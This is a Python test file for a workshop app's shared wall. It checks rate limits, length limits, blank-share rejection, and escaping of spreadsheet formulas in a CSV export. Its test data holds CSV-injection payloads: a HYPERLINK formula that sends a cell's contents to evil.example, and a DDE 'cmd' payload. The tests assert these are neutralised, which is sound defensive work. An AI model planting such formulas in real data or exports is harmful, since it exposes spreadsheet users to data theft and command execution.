"""Hostile clients, part 5: the wall can be shared, not griefed; what griefers type runs in no
exported cell.

Before (issue 16, items 5 and 7): one attendee posted 30 distinct entries in 21 s (change the
mantra, share, repeat); one 1,990-character mantra covered the whole wall at 1920x1080; 120
clicks on hidden Share buttons made 101 empty rows, which reached the export; the CSV export
wrote =HYPERLINK(...) and +cmd|... as typed, attendees in join order.

A share goes through `workshop.services.wall`, which every front end calls (the widget views,
the phones' pages): these replay the attacks through it, on the served room's own database,
and look at what the big screen shows in Chromium (directly and through nginx).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect
from sqlalchemy import text

from tests.support.paths import ROOT
from tests.support.serving import Served
from workshop.cli import main
from workshop.content.keynote import load_content
from workshop.content.live import load_live_content
from workshop.content.settings import Limits
from workshop.errors import TextTooLongError
from workshop.live.wall import WallError
from workshop.services import live_session as live
from workshop.services import wall
from workshop.spreadsheet import FORMULA_STARTS
from workshop.store import Store

pytestmark = pytest.mark.browser
expect.set_options(timeout=30_000)
SCREEN = {"width": 1920, "height": 1080}
GRIEF = "GRIEF " * 331 + "GRIEF"  # 1,991 characters
FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)")
LIMITS: Limits = load_content(ROOT / "data" / "en").settings.limits
#: What a hidden Share button sends, and blanks a script could send.
BLANKS = (("", ""), ("mantra", ""), ("mantra", " \u200b "), ("ingredient", "\t"))


def show_the_wall(store: Store, code: str) -> None:
    """The facilitator moves to the menu segment and reveals it, as the remote does."""
    session = store.live_session(code)
    assert session is not None
    content = load_live_content(ROOT / "data" / "en")
    menu = [segment.step for segment in content.agenda].index("menu")
    live.start_segment(store, session, content, menu)
    store.set_revealed(code, True)


def big_screen(browser: Browser, served: Served) -> tuple[BrowserContext, Page]:
    context = browser.new_context(viewport=SCREEN)  # type: ignore[arg-type]
    screen = context.new_page()
    screen.goto(served.facilitator_url("presenter"))
    return context, screen


def test_one_attendee_cannot_flood_the_wall(browser: Browser, direct: Served) -> None:
    with Store(direct.db) as store:
        griefer = store.create_attendee(None, direct.session_code)
        shared = refused = 0
        for n in range(30):
            body = f"Grief number {n}"
            store.save_text(griefer.id, "menu", "mantra", body)
            try:
                entry = wall.share(store, LIMITS, griefer.id, "mantra", body)
            except WallError as exc:
                assert exc.reason == "wall_full"
                refused += 1
                continue
            shared += 1
            if n % 2:
                wall.withdraw(store, griefer.id, entry)  # taking back gives no share back
        assert (shared, refused) == (3, 27)
        show_the_wall(store, direct.session_code)
    context, screen = big_screen(browser, direct)
    cards = screen.locator(".wp-card")
    expect(cards.first).to_be_visible()
    assert cards.count() <= 3
    context.close()


def test_no_entry_takes_more_than_its_share_of_the_big_screen(
    browser: Browser, room: Served
) -> None:
    with Store(room.db) as store:
        griefer = store.create_attendee(None, room.session_code)
        store.save_text(griefer.id, "menu", "mantra", GRIEF)
        with pytest.raises(TextTooLongError):
            wall.share(store, LIMITS, griefer.id, "mantra", GRIEF)
        # A room from before the limit may hold one already; so may content with a long limit.
        store.share_on_wall(griefer.id, "mantra", GRIEF)
        for body in ("Keep going", "Think positive, take action!", "Smile"):
            who = store.create_attendee(None, room.session_code)
            store.share_on_wall(who.id, "mantra", body)
        show_the_wall(store, room.session_code)
    context, screen = big_screen(browser, room)
    long_card = screen.locator(".wp-card").filter(has_text="GRIEF GRIEF")
    expect(long_card).to_be_visible()
    box = long_card.bounding_box()
    assert box is not None
    line = float(long_card.evaluate("c => parseFloat(getComputedStyle(c).lineHeight)"))
    assert box["width"] <= 0.3 * SCREEN["width"] + 1, box
    assert box["height"] <= 3 * line + 24, (box, line)  # three lines and the card's padding
    for body in ("Keep going", "Smile"):
        expect(screen.locator(".wp-card").filter(has_text=body)).to_be_visible()
    context.close()


def test_blank_shares_write_nothing(direct: Served) -> None:
    with Store(direct.db) as store:
        clicker = store.create_attendee(None, direct.session_code)
        made = 0
        for n in range(120):
            kind, body = BLANKS[n % len(BLANKS)]
            try:
                wall.share(store, LIMITS, clicker.id, kind, body)
                made += 1
            except WallError:
                pass
            try:
                store.share_on_wall(clicker.id, kind or "mantra", body)
                made += 1
            except WallError:
                pass
        assert made == 0
        assert store.wall_shared_count(clicker.id) == 0


def test_what_griefers_typed_runs_in_no_exported_cell(direct: Served, tmp_path: Path) -> None:
    with Store(direct.db) as store:
        for body in FORMULAS:
            who = store.create_attendee(None, direct.session_code)
            store.save_text(who.id, "menu", "mantra", body)
            wall.share(store, LIMITS, who.id, "mantra", body)
        # An older database's blank row, to be left out.
        with store.transaction() as conn:
            conn.execute(
                text(
                    "INSERT INTO wall (session_code, attendee_id, kind, body, shared_at) "
                    "VALUES (:s, :a, 'mantra', '  ', '2025-03-14T09:00:00.000+00:00')"
                ),
                {"s": direct.session_code, "a": who.id},
            )
    out = tmp_path / "results"
    assert main(["export", "--db", direct.db, "--out", str(out)]) == 0
    cells = [
        cell
        for path in out.glob("*.csv")
        for row in csv.reader(path.open(encoding="utf-8", newline=""))
        for cell in row
    ]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert {f"'{f}" for f in FORMULAS} <= set(cells)
    rows = list(csv.DictReader((out / "wall.csv").open(encoding="utf-8")))
    assert len(rows) == 3 and all(r["text"].strip() for r in rows)
